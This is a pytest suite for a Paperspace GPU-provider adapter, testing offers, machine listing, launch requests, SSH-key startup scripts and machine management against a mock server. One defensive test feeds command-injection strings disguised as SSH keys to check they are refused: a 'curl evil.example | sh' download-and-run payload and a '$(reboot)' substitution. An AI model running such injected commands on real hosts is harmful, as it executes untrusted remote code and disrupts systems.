"""Paperspace adapter: fixtures in, domain objects out; exact requests; errors; no key leaks."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from gpucm.config import ProviderSettings
from gpucm.domain.catalog import Catalog
from gpucm.domain.clock import fixed_clock
from gpucm.domain.models import Offer
from gpucm.domain.provider_names import PAPERSPACE
from gpucm.providers.base import Capabilities, InstanceControl, LaunchSpec, OfferSource
from gpucm.providers.demo import DemoMarket
from gpucm.providers.errors import (
    AuthError,
    BadResponse,
    CapacityError,
    InvalidRequest,
    NotFound,
    ProviderError,
    ProviderUnavailable,
    RateLimited,
    Unsupported,
)
from gpucm.providers.paperspace import META, PaperspaceAdapter
from gpucm.providers.paperspace_parse import (
    STATUS_TABLE,
    build_offers,
    disk_size_gb,
    error_from_body,
    load_catalogue,
    normalise_status,
    parse_catalogue,
    parse_created,
    parse_machine,
    parse_machines_page,
    parse_offers,
    pick_template,
    region_code,
    ssh_key_script,
    template_support,
)
from tests.conftest import FIXED_NOW, FIXTURES

KEY = "test-key-paperspace-123456"
PS = FIXTURES / "paperspace"
CATALOG = Catalog.builtin()
BASE = "https://api.paperspace.com/v1"


def load(name: str) -> Any:
    return json.loads((PS / name).read_text())


# -- harness ----------------------------------------------------------------------------

Reply = httpx.Response | Callable[[httpx.Request], httpx.Response]


class Server:
    """Answers by (method, path) from queues of replies and records every request."""

    def __init__(self) -> None:
        self.routes: dict[tuple[str, str], list[Reply]] = {}
        self.requests: list[httpx.Request] = []

    def on(self, method: str, path: str, *replies: Reply) -> Server:
        self.routes.setdefault((method, path), []).extend(replies)
        return self

    def json(self, method: str, path: str, body: Any, status: int = 200) -> Server:
        return self.on(method, path, httpx.Response(status, json=body))

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        queue = self.routes.get((request.method, request.url.path))
        if not queue:
            return httpx.Response(599, text=f"unexpected {request.method} {request.url}")
        reply = queue.pop(0) if len(queue) > 1 else queue[0]
        return reply(request) if callable(reply) else reply

    def calls(self, method: str, path: str) -> list[httpx.Request]:
        return [r for r in self.requests if r.method == method and r.url.path == path]


@pytest.fixture
def server() -> Server:
    return Server()


@pytest.fixture
def sleeps() -> list[float]:
    return []


@pytest.fixture
async def adapter(server: Server, sleeps: list[float]) -> AsyncIterator[PaperspaceAdapter]:
    async def fake_sleep(delay: float) -> None:
        sleeps.append(delay)

    a = PaperspaceAdapter(
        ProviderSettings(api_key=KEY),
        transport=httpx.MockTransport(server),
        sleep=fake_sleep,
        clock=fixed_clock(FIXED_NOW),
        rand=lambda: 0.5,
    )
    a.read_default_key = lambda: None  # type: ignore[method-assign]  # no ~/.ssh here
    yield a
    await a.aclose()


def offer_for(pid: str) -> Offer:
    offers = {o.provider_id: o for o in parse_offers(load("os_templates.json"), FIXED_NOW)}
    return offers[pid]


def spec_for(pid: str, **kw: Any) -> LaunchSpec:
    defaults: dict[str, Any] = {"label": "h100-finetune", "request_id": "req-1"}
    return LaunchSpec(offer=offer_for(pid), **{**defaults, **kw})


def error_body(code: str, message: str) -> dict[str, str]:
    return {"code": code, "message": message}


# -- catalogue --------------------------------------------------------------------------


def test_packaged_catalogue_is_the_fixture_catalogue_with_a_source() -> None:
    packaged = json.loads(
        (
            Path(__file__).resolve().parents[2]
            / "src/gpucm/providers/paperspace_machine_types.json"
        ).read_text()
    )
    assert packaged["machineTypes"] == load("machine_types_catalog.json")["machineTypes"]
    # every row from a public source, cited with the date it was checked
    assert "skypilot-org/skypilot-catalog" in packaged["source"]
    assert packaged["checked"] == "2026-12"
    assert packaged["_comment"]
    catalogue = load_catalogue()  # through importlib.resources
    assert catalogue.storage_price_per_gb_month == pytest.approx(0.12)
    assert [m.label for m in catalogue.machine_types][:3] == ["C5", "C6", "C7"]
    # only the region the source confirms
    assert {r for m in catalogue.machine_types for r in m.regions} == {"East Coast (NY2)"}
    h100x8 = catalogue.get("H100x8")
    assert h100x8 is not None
    assert (h100x8.gpu_count, h100x8.price_per_hour) == (8, 47.6)


def test_catalogue_skips_malformed_rows_and_rejects_a_wrong_shape() -> None:
    body = {
        "machineTypes": [
            {
                "machineType": "A4000",
                "gpuModel": "RTX A4000",
                "gpuCount": 1,
                "pricePerHour": 0.76,
                "regions": ["East Coast (NY2)"],
            },
            {"gpuModel": "no label"},
            "not a row",
            {"machineType": "A5000", "regions": "East Coast (NY2)"},
            {
                "machineType": "A6000x4",
                "gpuModel": "RTX A6000",
                "gpuCount": None,
                "pricePerHour": None,
                "regions": ["Europe (AMS1)"],
            },
        ]
    }
    catalogue = parse_catalogue(body)
    assert [m.label for m in catalogue.machine_types] == ["A4000", "A6000x4"]
    a6000x4 = catalogue.get("A6000x4")
    assert a6000x4 is not None
    assert a6000x4.gpu_count == 4
    # a row without a price makes no offer, rather than a free one
    offers = build_offers(catalogue, FIXED_NOW)
    assert [o.provider_id for o in offers] == ["A4000@NY2"]
    with pytest.raises(BadResponse, match="machineTypes"):
        parse_catalogue([])


# -- offers -----------------------------------------------------------------------------


def test_offers_from_fixtures() -> None:
    offers = parse_offers(load("os_templates.json"), FIXED_NOW)
    by_pid = {o.provider_id: o for o in offers}
    assert len(offers) == len(by_pid) == 13  # GPU rows x their regions, no CPU types
    assert not any(pid.startswith(("C5@", "C7@")) for pid in by_pid)

    a100 = by_pid["A100-80G@NY2"]
    assert a100.id == "paperspace:A100-80G@NY2"
    assert a100.provider == PAPERSPACE
    assert (a100.gpu_name, a100.gpu_count, a100.gpu_memory_gb) == ("A100", 1, 80)
    assert a100.price_per_hour == 3.18
    assert a100.storage_price_per_gb_month == pytest.approx(0.12)
    assert (a100.vcpus, a100.ram_gb, a100.storage_gb) == (12, 80, None)
    assert a100.region == "East Coast (NY2)"
    assert a100.reliability is None
    assert a100.verified is True
    assert a100.spot_price_per_hour is None
    assert a100.fetched_at == FIXED_NOW
    assert a100.provider_data == {"machine_type": "A100-80G", "region": "East Coast (NY2)"}
    # Paperspace says nothing about stock: every offer's availability is unknown, and
    # still available in the original API's sense (only `none` is not)
    assert {o.availability for o in offers} == {"unknown"}
    assert all(o.available for o in offers)
    # a template's isAvailable is compatibility, never stock: H100x8 and V100-32G are
    # false in every template of the fixture, and their offers are no less unknown
    assert by_pid["H100x8@NY2"].availability == "unknown"
    assert by_pid["V100-32G@NY2"].availability == "unknown"
    assert (by_pid["H100x8@NY2"].gpu_count, by_pid["H100x8@NY2"].price_per_hour) == (8, 47.6)
    assert by_pid["A4000x4@NY2"].gpu_count == 4
    assert json.loads(json.dumps(a100.provider_data)) == a100.provider_data


@pytest.mark.parametrize(
    ("label", "model"),
    [
        ("P4000", "Quadro P4000"),
        ("P4000x2", "Quadro P4000"),
        ("A4000", "RTX A4000"),
        ("A4000x4", "RTX A4000"),
        ("V100", "V100 16GB"),
        ("V100-32G", "V100 32GB"),
        ("V100-32Gx4", "V100 32GB"),
        ("H100", "H100"),
        ("H100x8", "H100"),
    ],
)
def test_offer_gpu_names_resolve_to_catalog_models(label: str, model: str) -> None:
    offer = next(
        o
        for o in parse_offers(load("os_templates.json"), FIXED_NOW)
        if o.provider_data["machine_type"] == label
    )
    assert CATALOG.resolve(offer.gpu_name, offer.gpu_memory_gb).name == model


def test_a100_resolves_to_an_80gb_a100() -> None:
    for label in ("A100-80G", "A100-80Gx8"):
        offer = next(
            o
            for o in parse_offers(load("os_templates.json"), FIXED_NOW)
            if o.provider_data["machine_type"] == label
        )
        name = CATALOG.resolve(offer.gpu_name, offer.gpu_memory_gb).name
        assert name.startswith("A100 80GB"), name


def test_offer_ids_are_stable_and_match_the_demo_market() -> None:
    first = [o.id for o in parse_offers(load("os_templates.json"), FIXED_NOW)]
    later = datetime(2027, 1, 1, tzinfo=UTC)
    assert first == [o.id for o in parse_offers(load("os_templates.json"), later)]
    market = DemoMarket()
    demo = market.offers(PAPERSPACE, 0, FIXED_NOW)
    assert {o.id for o in demo} == set(first)  # the demo prices from the same catalogue
    assert {o.availability for o in demo} == {"unknown"}


def test_region_code() -> None:
    assert region_code("East Coast (NY2)") == "NY2"
    assert region_code("West Coast (CA1)") == "CA1"
    assert region_code("Europe (AMS1)") == "AMS1"
    assert region_code("Somewhere New") == "Somewhere-New"


def test_template_support_any_template_and_malformed_entries() -> None:
    templates = [
        {"availableMachineTypes": [{"machineTypeLabel": "A4000", "isAvailable": False}]},
        {"availableMachineTypes": [{"machineTypeLabel": "A4000", "isAvailable": True}]},
        {"availableMachineTypes": None},
        {"name": "no list"},
        "not a template",
        {
            "availableMachineTypes": [
                "junk",
                {"isAvailable": True},
                {"machineTypeLabel": None, "isAvailable": True},
                {"machineTypeLabel": "H100", "isAvailable": "yes"},
                {"machineTypeLabel": "P4000"},
            ]
        },
    ]
    assert template_support(templates) == {
        "A4000": True,
        "H100": False,
        "P4000": False,
    }


@pytest.mark.parametrize(
    "body",
    [[], {"hasMore": False}, {"items": None}, {"items": {"a": 1}}, "text", None],
)
def test_wrong_shape_template_answers_raise_bad_response(body: Any) -> None:
    with pytest.raises(BadResponse, match="os-templates"):
        parse_offers(body, FIXED_NOW)


async def test_fetch_offers_request_and_result(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    offers = await adapter.fetch_offers()
    assert len(offers) == 13
    assert offers == parse_offers(load("os_templates.json"), FIXED_NOW)
    [request] = server.requests
    assert str(request.url) == f"{BASE}/os-templates?limit=50"
    assert request.headers["Authorization"] == f"Bearer {KEY}"
    assert request.headers["User-Agent"].startswith("gpucm/")
    assert request.headers["Accept"] == "application/json"


async def test_fetch_offers_follows_template_pages(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    fixture = load("os_templates.json")
    first = {"hasMore": True, "nextPage": "cursor-2", "items": fixture["items"][:1]}
    second = {
        "hasMore": False,
        "nextPage": None,
        "items": [
            {
                "id": "tx",
                "name": "Other",
                "availableMachineTypes": [{"machineTypeLabel": "H100x8", "isAvailable": True}],
            }
        ],
    }
    server.json("GET", "/v1/os-templates", first).json("GET", "/v1/os-templates", second)
    offers = {o.provider_id: o for o in await adapter.fetch_offers()}
    assert len(offers) == 13
    assert [dict(r.url.params) for r in server.requests] == [
        {"limit": "50"},
        {"limit": "50", "after": "cursor-2"},
    ]


async def test_fetch_offers_fails_when_templates_fail(
    adapter: PaperspaceAdapter, server: Server, sleeps: list[float]
) -> None:
    server.json(
        "GET", "/v1/os-templates", {"code": "INTERNAL_SERVER_ERROR", "message": "boom"}, status=503
    )
    with pytest.raises(ProviderUnavailable):
        await adapter.fetch_offers()
    assert len(server.requests) == 4  # the shared retry policy, nothing of our own
    assert len(sleeps) == 3


async def test_fetch_offers_malformed_json(adapter: PaperspaceAdapter, server: Server) -> None:
    server.on("GET", "/v1/os-templates", httpx.Response(200, text="{not json"))
    with pytest.raises(BadResponse, match="not JSON"):
        await adapter.fetch_offers()


async def test_fetch_offers_wrong_shape(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json("GET", "/v1/os-templates", [{"id": "t"}])
    with pytest.raises(BadResponse, match="GET /os-templates"):
        await adapter.fetch_offers()


async def test_quote_asks_for_this_type_and_region_now(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    replies = [load("machine_availability_yes.json"), load("machine_availability_no.json")]
    server.on(
        "GET",
        "/v1/machine-availability",
        lambda request: httpx.Response(200, json=replies.pop(0)),
    )
    listed = offer_for("A4000@NY2")
    fresh = await adapter.quote(listed)
    assert fresh is not None
    assert (fresh.id, fresh.price_per_hour) == ("paperspace:A4000@NY2", 0.76)
    # a yes says stock exists, not how much
    assert fresh.availability == "medium"
    [request] = server.requests
    assert dict(request.url.params) == {"machineType": "A4000", "region": "East Coast (NY2)"}
    assert await adapter.quote(offer_for("H100x8@NY2")) is None  # none now: not launchable
    gone = listed.model_copy(update={"provider_data": {"machine_type": "K80", "region": "x"}})
    assert await adapter.quote(gone) is None
    elsewhere = listed.model_copy(
        update={"provider_data": {"machine_type": "H100", "region": "Europe (AMS1)"}}
    )
    assert await adapter.quote(elsewhere) is None  # not a region the catalogue has
    assert len(server.requests) == 2


async def test_quote_without_the_availability_endpoint_is_unknown(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/machine-availability", error_body("NOT_FOUND", "no route"), 404)
    fresh = await adapter.quote(offer_for("A4000@NY2"))
    assert fresh is not None
    assert fresh.availability == "unknown"


# -- machines ---------------------------------------------------------------------------


def test_machines_fixture() -> None:
    instances, cursor = parse_machines_page(load("machines.json"))
    assert cursor is None
    by_id = {i.provider_id: i for i in instances}
    assert list(by_id) == ["psh8xo0t2ab", "psk2j7q1zfd", "psq9w3e8r1t"]

    a4000 = by_id["psh8xo0t2ab"]
    assert a4000.id == "paperspace:psh8xo0t2ab"
    assert (a4000.name, a4000.status, a4000.raw_status) == ("sd-a4000", "running", "ready")
    assert (a4000.gpu_name, a4000.gpu_count) == ("A4000", 1)
    assert CATALOG.resolve(a4000.gpu_name or "", 16).name == "RTX A4000"
    assert (a4000.cpu_count, a4000.ram_gb, a4000.storage_gb) == (8, 32.0, 50.0)
    assert a4000.price_per_hour == 0.76
    # for the spend ledger: `storageRate` read as $/month (its unit is undocumented), what
    # the disk bills while the machine is off; both are gpucm's reading, not reported
    assert a4000.stopped_per_hour == pytest.approx(7.0 / 730)
    assert not a4000.rate_reported and not a4000.stopped_reported
    assert a4000.region == "East Coast (NY2)"
    assert (a4000.public_ip, a4000.ssh_host, a4000.ssh_port, a4000.ssh_user) == (
        "184.105.4.41",
        "184.105.4.41",
        22,
        "paperspace",
    )
    assert a4000.created_at == datetime(2025, 9, 2, 16, 41, 3, 211000, tzinfo=UTC)
    assert a4000.offer_id == "paperspace:A4000@NY2"
    assert a4000.image is None
    assert a4000.provider_data["machine_type"] == "A4000"
    assert a4000.provider_data["storage_rate"] == 7.0

    off = by_id["psk2j7q1zfd"]
    assert (off.status, off.raw_status) == ("stopped", "off")
    assert (off.public_ip, off.ssh_host, off.ssh_port) == (None, None, None)
    assert off.region == "West Coast (CA1)"
    assert off.storage_gb == 100.0

    h100 = by_id["psq9w3e8r1t"]
    assert (h100.status, h100.raw_status, h100.gpu_name) == ("provisioning", "provisioning", "H100")
    assert (h100.ram_gb, h100.storage_gb, h100.price_per_hour) == (80.0, 250.0, 5.95)


def test_status_table_covers_every_documented_state() -> None:
    documented = {
        "provisioning": "provisioning",
        "starting": "provisioning",
        "serviceready": "provisioning",
        "restarting": "provisioning",
        "upgrading": "provisioning",
        "ready": "running",
        "stopping": "stopped",
        "off": "stopped",
    }
    assert documented == STATUS_TABLE
    for raw, status in documented.items():
        assert normalise_status(raw) == status
        assert normalise_status(raw.upper()) == status
    assert normalise_status("melted") == "error"
    assert normalise_status(None) == "error"
    assert normalise_status(3) == "error"


def test_machine_with_missing_and_null_fields() -> None:
    bare = parse_machine({"id": "ps1"})
    assert bare is not None
    assert (bare.status, bare.raw_status, bare.gpu_count, bare.price_per_hour) == (
        "error",
        None,
        0,
        None,
    )
    nulls = parse_machine(
        {
            "id": "ps2",
            "name": None,
            "state": "ready",
            "machineType": "A4000",
            "ram": None,
            "cpus": None,
            "accelerators": None,
            "publicIp": None,
            "usageRate": None,
            "storageTotal": "oops",
            "region": None,
            "dtCreated": "not a date",
        }
    )
    assert nulls is not None
    assert nulls.status == "running"
    # no accelerators listed: the catalogue knows the machine type
    assert (nulls.gpu_name, nulls.gpu_count, nulls.price_per_hour) == ("RTX A4000", 1, 0.76)
    assert (nulls.ram_gb, nulls.storage_gb, nulls.created_at, nulls.offer_id) == (
        None,
        None,
        None,
        None,
    )
    legacy_rate = parse_machine({"id": "ps3", "usageRate": "P4000 hourly", "machineType": "X"})
    assert legacy_rate is not None
    assert legacy_rate.price_per_hour is None
    deleted = parse_machine({"id": "ps4", "state": "off", "dtDeleted": "2025-10-01T00:00:00Z"})
    assert deleted is not None
    assert deleted.status == "terminated"
    assert parse_machine({"name": "no id"}) is None
    assert parse_machine(["x"]) is None
    instances, _ = parse_machines_page({"items": [{"id": "ok"}, {"id": None}, 7], "hasMore": False})
    assert [i.provider_id for i in instances] == ["ok"]


@pytest.mark.parametrize("body", [[], {"hasMore": False}, {"items": "x"}])
def test_machines_wrong_shape(body: Any) -> None:
    with pytest.raises(BadResponse, match="GET /machines"):
        parse_machines_page(body)


async def test_list_instances_paginates(adapter: PaperspaceAdapter, server: Server) -> None:
    items = load("machines.json")["items"]
    server.json("GET", "/v1/machines", {"hasMore": True, "nextPage": "c2", "items": items[:2]})
    server.json("GET", "/v1/machines", {"hasMore": False, "nextPage": None, "items": items[2:]})
    instances = await adapter.list_instances()
    assert [i.provider_id for i in instances] == ["psh8xo0t2ab", "psk2j7q1zfd", "psq9w3e8r1t"]
    assert [dict(r.url.params) for r in server.requests] == [
        {"limit": "50"},
        {"limit": "50", "after": "c2"},
    ]
    assert all(r.headers["Authorization"] == f"Bearer {KEY}" for r in server.requests)


async def test_list_instances_stops_on_a_repeated_cursor(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/machines", {"hasMore": True, "nextPage": "same", "items": []})
    with pytest.raises(BadResponse, match="same page cursor"):
        await adapter.list_instances()
    assert len(server.requests) == 2


# -- launch -----------------------------------------------------------------------------


async def test_launch_sends_the_recorded_request(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("POST", "/v1/machines", load("create_machine.json"))
    spec = spec_for(
        "H100@NY2",
        disk_gb=250,
        auto_terminate_hours=8,
        image="ignored/image",
        environment=(("TOKEN", "s3cret"),),
        ports=((8888, "http"),),
    )
    instance = await adapter.launch(spec)

    [post] = server.calls("POST", "/v1/machines")
    expected = {**load("create_machine_request.json"), "publicIpType": "dynamic"}
    assert json.loads(post.content) == expected
    assert post.headers["Authorization"] == f"Bearer {KEY}"
    assert post.headers["Content-Type"] == "application/json"
    assert post.headers["User-Agent"].startswith("gpucm/")
    assert b"s3cret" not in post.content
    assert b"ignored/image" not in post.content

    assert instance.id == "paperspace:psq9w3e8r1t"
    assert (instance.status, instance.raw_status) == ("provisioning", "provisioning")
    assert (instance.offer_id, instance.request_id) == ("paperspace:H100@NY2", "req-1")
    assert instance.gpu_name == "H100"
    assert instance.price_per_hour == 5.95
    assert instance.provider_data["create_event_id"] == "3f8c2d9e-7b1a-4c5d-8e9f-0a1b2c3d4e5f"


async def test_launch_defaults_without_auto_terminate(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("POST", "/v1/machines", load("create_machine.json"))
    await adapter.launch(spec_for("A100-80Gx8@NY2", label="big"))
    body = json.loads(server.calls("POST", "/v1/machines")[0].content)
    assert body == {
        "name": "big",
        "machineType": "A100-80Gx8",
        "templateId": "tiq8mhti",
        "diskSize": 100,  # the ML-in-a-Box template's default size
        "region": "East Coast (NY2)",
        "publicIpType": "dynamic",
        "startOnCreate": True,
        "enableNvlink": True,
    }


@pytest.mark.parametrize(
    ("requested", "template_default", "expected"),
    [
        (None, 100, 100),
        (None, 50, 50),
        (None, None, 100),
        (30, 100, 100),
        (60, 50, 100),
        (250, 100, 250),
        (300, 100, 500),
        (2000, 100, 2000),
        (2001, 100, None),
    ],
)
def test_disk_sizes(
    requested: float | None, template_default: float | None, expected: int | None
) -> None:
    assert disk_size_gb(requested, template_default) == expected


async def test_launch_rounds_auto_shutdown_up_to_whole_hours(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("POST", "/v1/machines", load("create_machine.json"))
    await adapter.launch(spec_for("A4000@NY2", auto_terminate_hours=0.25, disk_gb=60))
    body = json.loads(server.calls("POST", "/v1/machines")[0].content)
    assert (body["autoShutdownEnabled"], body["autoShutdownTimeout"]) == (True, 1)
    assert (body["diskSize"], body["enableNvlink"]) == (100, False)


async def test_launch_refuses_too_large_a_disk_before_sending(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    with pytest.raises(InvalidRequest, match="2000 GB"):
        await adapter.launch(spec_for("A4000@NY2", disk_gb=5000))
    assert not server.calls("POST", "/v1/machines")


async def test_a_type_no_template_runs_on_is_refused_without_a_post(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    with pytest.raises(InvalidRequest, match="OS templates runs on machine type V100-32G"):
        await adapter.launch(spec_for("V100-32G@NY2"))
    assert not server.calls("POST", "/v1/machines")


def test_template_choice() -> None:
    templates = load("os_templates.json")["items"]
    picked = pick_template(templates, "A4000")
    assert picked is not None
    assert picked["id"] == "tiq8mhti"
    without_default = [t for t in templates if t["name"] != "ML-in-a-Box Ubuntu 22.04"]
    picked = pick_template(without_default, "A4000")
    assert picked is not None
    assert picked["id"] == "tlbl0v4n"
    assert pick_template(templates, "K80") is None
    # prefer a template that marks the type available over one that only lists it
    listing = [
        {
            "id": "t1",
            "name": "A",
            "availableMachineTypes": [{"machineTypeLabel": "H100", "isAvailable": False}],
        },
        {
            "id": "t2",
            "name": "B",
            "availableMachineTypes": [{"machineTypeLabel": "H100", "isAvailable": True}],
        },
    ]
    picked = pick_template(listing, "H100")
    assert picked is not None
    assert picked["id"] == "t2"


async def test_launch_falls_back_to_another_template(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    body = load("os_templates.json")
    body["items"] = body["items"][:1]  # only "Ubuntu 22.04 Server"
    server.json("GET", "/v1/os-templates", body)
    server.json("POST", "/v1/machines", load("create_machine.json"))
    await adapter.launch(spec_for("A4000@NY2"))
    sent = json.loads(server.calls("POST", "/v1/machines")[0].content)
    assert (sent["templateId"], sent["diskSize"]) == ("tlbl0v4n", 50)  # its defaultSizeGb


async def test_launch_is_not_retried(
    adapter: PaperspaceAdapter, server: Server, sleeps: list[float]
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json(
        "POST", "/v1/machines", {"code": "INTERNAL_SERVER_ERROR", "message": "x"}, status=503
    )
    with pytest.raises(ProviderUnavailable):
        await adapter.launch(spec_for("A4000@NY2"))
    assert len(server.calls("POST", "/v1/machines")) == 1
    assert sleeps == []


async def test_launch_capacity_refusal(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json(
        "POST",
        "/v1/machines",
        error_body("BAD_REQUEST", "There is no capacity for A4000 in this region."),
        status=400,
    )
    with pytest.raises(CapacityError, match="no capacity") as info:
        await adapter.launch(spec_for("A4000@NY2"))
    assert info.value.status == 400


async def test_a_create_refused_for_capacity_is_a_capacity_error(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("POST", "/v1/machines", load("error_create_capacity.json"), status=400)
    with pytest.raises(CapacityError, match="out of capacity for the selected VM type"):
        await adapter.launch(spec_for("H100@NY2"))


PUBLIC_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILXGDN/SclOozk1xsDztpmhGiKkkrfQB9SKoO8dSIQQZ"
    " me@example.com"
)


async def test_launch_installs_the_ssh_key_with_a_startup_script(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("GET", "/v1/startup-scripts", load("startup_scripts_empty.json"))
    server.json("POST", "/v1/startup-scripts", load("create_startup_script.json"))
    server.json("POST", "/v1/machines", load("create_machine.json"))
    await adapter.launch(spec_for("H100@NY2", ssh_public_key=PUBLIC_KEY))
    [listing] = server.calls("GET", "/v1/startup-scripts")
    name, script = ssh_key_script(PUBLIC_KEY)
    assert listing.url.params["name"] == name == "gpucm-ssh-key-18c2d3626390"
    [made] = server.calls("POST", "/v1/startup-scripts")
    assert json.loads(made.content) == {"name": name, "script": script, "isRunOnce": True}
    assert f"printf '%s\\n' '{PUBLIC_KEY}' >> \"$keys\"" in script
    assert "/home/paperspace/.ssh" in script
    [post] = server.calls("POST", "/v1/machines")
    assert json.loads(post.content)["startupScriptId"] == "scr8k2j4h6g"


async def test_a_keys_script_is_made_once_and_reused(
    adapter: PaperspaceAdapter, server: Server
) -> None:
    name, _ = ssh_key_script(PUBLIC_KEY)
    existing = {"hasMore": False, "items": [{"id": "scrOLD", "name": name}]}
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    server.json("GET", "/v1/startup-scripts", existing)
    server.json("POST", "/v1/machines", load("create_machine.json"))
    adapter.read_default_key = lambda: PUBLIC_KEY  # type: ignore[method-assign]
    await adapter.launch(spec_for("H100@NY2"))  # the key from ~/.ssh
    assert not server.calls("POST", "/v1/startup-scripts")
    [post] = server.calls("POST", "/v1/machines")
    assert json.loads(post.content)["startupScriptId"] == "scrOLD"


@pytest.mark.parametrize(
    "key",
    [
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI'; curl evil.example | sh; echo '",
        "not a key",
        "ssh-ed25519 $(reboot)",
        "-----BEGIN OPENSSH PRIVATE KEY-----",
    ],
)
async def test_anything_but_a_public_key_is_refused_before_any_request(
    adapter: PaperspaceAdapter, server: Server, key: str
) -> None:
    server.json("GET", "/v1/os-templates", load("os_templates.json"))
    with pytest.raises(InvalidRequest, match="not an OpenSSH public key"):
        await adapter.launch(spec_for("H100@NY2", ssh_public_key=key))
    assert not server.calls("POST", "/v1/startup-scripts")
    assert not server.calls("POST", "/v1/machines")


def test_a_keys_odd_comment_is_left_out() -> None:
    _, script = ssh_key_script(PUBLIC_KEY.replace("me@example.com", "it's-me"))
    assert "it's" not in script
    assert PUBLIC_KEY.rsplit(" ", 1)[0] in script


def test_the_default_key_is_the_first_public_key_in_ssh(tmp_path: Path) -> None:
    from gpucm.providers.ssh_keys import default_public_key

    assert default_public_key(tmp_path) is None
    ssh = tmp_path / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text("PRIVATE - never read")
    (ssh / "id_rsa.pub").write_text("ssh-rsa AAAAB3Nza rsa-key\n")
    assert default_public_key(tmp_path) == "ssh-rsa AAAAB3Nza rsa-key"
    (ssh / "id_ed25519.pub").write_text(PUBLIC_KEY + "\n")
    assert default_public_key(tmp_path) == PUBLIC_KEY


@pytest.mark.parametrize(
    ("change", "words"),
    [({"interruptible": True}, "no interruptible"), ({"file_systems": ("d",)}, "shared drives")],
)
async def test_what_paperspace_cannot_do_is_unsupported(
    adapter: PaperspaceAdapter, server: Server, change: dict[str, Any], words: str
) -> None:
    with pytest.raises(Unsupported, match=words):
        await adapter.launch(spec_for("H100@NY2", **change))
    assert server.requests == []


def test_auto_shutdown_is_named_for_what_it_does() -> None:
    assert META.capabilities.auto_shutdown
    assert "Auto-shutdown (stops the machine; its disk keeps billing)" in (
        META.capabilities.features()
    )
    assert not any("terminate" in f.lower() for f in META.capabilities.features())


def test_create_event_error_keeps_the_machine() -> None:
    body = load("create_machine.json")
    body["event"] = {**body["event"], "state": "error", "error": "Out of capacity"}
    instance = parse_created(body)
    assert (instance.provider_id, instance.status) == ("psq9w3e8r1t", "error")
    assert instance.provider_data["create_error"] == "Out of capacity"


@pytest.mark.parametrize("body", [{}, {"data": None}, [], {"data": {"name": "no id"}}])
def test_create_wrong_shape(body: Any) -> None:
    with pytest.raises(BadResponse, match="POST /machines"):
        parse_created(body)


async def test_launch_offer_without_provider_data(adapter: PaperspaceAdapter) -> None:
    spec = spec_for("A4000@NY2")
    broken = spec.offer.model_copy(update={"provider_data": {}})
    with pytest.raises(InvalidRequest, match="refresh"):
        await adapter.launch(LaunchSpec(offer=broken, label="x", request_id="r"))


# -- manage -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("action", "method", "path"),
    [
        ("start", "PATCH", "/v1/machines/psk2j7q1zfd/start"),
        ("stop", "PATCH", "/v1/machines/psk2j7q1zfd/stop"),
        ("restart", "PATCH", "/v1/machines/psk2j7q1zfd/restart"),
        ("terminate", "DELETE", "/v1/machines/psk2j7q1zfd"),
    ],
)
async def test_manage_requests(
    adapter: PaperspaceAdapter, server: Server, action: str, method: str, path: str
) -> None:
    server.json(method, path, load("start_machine.json"))
    await getattr(adapter, action)("psk2j7q1zfd")
    [request] = server.requests
    assert (request.method, request.url.path, request.content) == (method, path, b"")
    assert request.headers["Authorization"] == f"Bearer {KEY}"
    assert request.headers["User-Agent"].startswith("gpucm/")


async def test_manage_accepts_an_empty_answer(adapter: PaperspaceAdapter, server: Server) -> None:
    server.on("DELETE", "/v1/machines/ps1", httpx.Response(204))
    await adapter.terminate("ps1")


async def test_machine_ids_are_escaped(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json("PATCH", "/v1/machines/../teams/stop", {})  # routes match the decoded path
    await adapter.stop("../teams")
    assert server.requests[0].url.raw_path == b"/v1/machines/..%2Fteams/stop"
    with pytest.raises(InvalidRequest):
        await adapter.stop("  ")


async def test_already_starting(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json(
        "PATCH",
        "/v1/machines/ps1/start",
        error_body("BAD_REQUEST", "This machine is currently starting."),
        status=400,
    )
    with pytest.raises(InvalidRequest) as info:
        await adapter.start("ps1")
    assert type(info.value) is InvalidRequest
    assert info.value.message == "This machine is currently starting."


async def test_operation_event_error(adapter: PaperspaceAdapter, server: Server) -> None:
    body = load("start_machine.json")
    body["event"] = {**body["event"], "state": "error", "error": None}
    server.json("PATCH", "/v1/machines/ps1/start", body)
    with pytest.raises(InvalidRequest, match="start operation failed"):
        await adapter.start("ps1")


async def test_not_found_fixture(adapter: PaperspaceAdapter, server: Server) -> None:
    server.json("PATCH", "/v1/machines/nope/stop", load("error_not_found.json"), status=404)
